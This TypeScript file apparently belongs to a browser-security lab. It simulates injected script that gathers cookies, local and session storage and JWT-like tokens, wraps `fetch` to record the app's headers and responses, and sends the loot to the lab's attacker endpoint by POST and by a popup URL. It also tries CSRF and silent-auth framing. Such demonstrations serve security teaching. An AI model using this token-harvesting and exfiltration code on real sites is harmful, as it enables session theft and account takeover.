import type { Api } from '../../api.ts';
import type { LabClient, Places } from './lab-client.ts';
import type { ScenarioId, Victim } from './scenarios.ts';
import type { Forged } from './verdict.ts';

/** What the script met on its way. */
export type Met = 'fetch-went' | 'fetch-blocked' | 'frame-open' | 'frame-blocked' | 'window-opened';

/**
 * What injected script would do in this page, with all the rights of the page and none besides. It runs when somebody
 * presses the button, and sends to the lab's attacker on this machine alone.
 */
export async function attackThisPage(scenario: ScenarioId, places: Places, api: Api): Promise<Met[]> {
  const met: Met[] = [];
  const loot: unknown[] = [everythingInReach()];
  const looks = { single: 1, persistent: 2, logout: 1, proxy: 0, frame: 0, csrf: 0 }[scenario];
  for (let look = 0; look < looks; look += 1) {
    loot.push(await overheard(() => api.whoAmI()), everythingInReach());
  }
  const data = scenario === 'proxy' ? await api.whoAmI() : undefined;
  if (scenario === 'frame') met.push(await tryFrame(places));

  const message = { from: 'coatcheck', scenario, way: scenario === 'proxy' ? 'call' : 'page', loot, data };
  met.push(await trySending(places, JSON.stringify(message)));
  // Nothing keeps a page from opening another one: this way out is open to every script, in as much as fits an address.
  const inShort = JSON.stringify({ ...message, loot: JSON.stringify(loot).slice(0, 6_000) });
  open(`${places.attacker}/collect?${new URLSearchParams({ loot: inShort })}`, '_blank', smallWindow);
  met.push('window-opened');
  return met;
}

/** Has a page of another site post a note to an app, and looks whether it is there. */
export async function forgeRequest(
  victim: Victim,
  places: Places,
  lab: LabClient,
  api: Api,
): Promise<Forged> {
  const last = (await lab.received()).at(-1)?.id ?? 0;
  open(`${places.attacker}/csrf?victim=${victim}`, '_blank', smallWindow);
  for (let tries = 0; tries < 40; tries += 1) {
    const sent = (await lab.received()).some(
      ({ id, from, finding }) => id > last && from === victim && finding.what === 'form-sent',
    );
    if (sent) {
      const { notes } = await api.listNotes(null, 'Written by another site', AbortSignal.timeout(10_000));
      return notes.length > 0 ? 'written' : 'unwritten';
    }
    await new Promise((resolve) => setTimeout(resolve, 250));
  }
  throw new Error('The page of the other site did not open. Does this browser block windows?');
}

const smallWindow = 'noopener,popup,width=480,height=360';

function everythingInReach() {
  return {
    cookie: document.cookie,
    localStorage: { ...localStorage },
    sessionStorage: { ...sessionStorage },
    page: document.documentElement.outerHTML.match(/eyJ[\w-]+\.[\w-]+\.[\w-]*/g) ?? [],
  };
}

/** Puts itself in the place of `fetch`, and has what the app's own calls carry and get. */
async function overheard(act: () => Promise<unknown>): Promise<unknown[]> {
  const heard: unknown[] = [];
  const send = window.fetch;
  window.fetch = async (input, init) => {
    const answer = await send(input, init);
    heard.push([...new Headers(init?.headers)], [...answer.headers]);
    if (answer.headers.get('content-type')?.includes('json')) heard.push(await answer.clone().text());
    return answer;
  };
  try {
    await act();
  } finally {
    window.fetch = send;
  }
  return heard;
}

async function trySending({ attacker }: Places, body: string): Promise<Met> {
  try {
    await fetch(`${attacker}/collect`, { method: 'POST', mode: 'no-cors', body });
    return 'fetch-went';
  } catch {
    return 'fetch-blocked';
  }
}

async function tryFrame({ issuer }: Places): Promise<Met> {
  const outcome = new Promise<Met>((resolve) => {
    document.addEventListener('securitypolicyviolation', () => resolve('frame-blocked'), { once: true });
    setTimeout(() => resolve('frame-open'), 1_500);
  });
  const frame = document.createElement('iframe');
  frame.hidden = true;
  frame.src = `${issuer}/auth?prompt=none`;
  document.body.append(frame);
  const met = await outcome;
  frame.remove();
  return met;
}
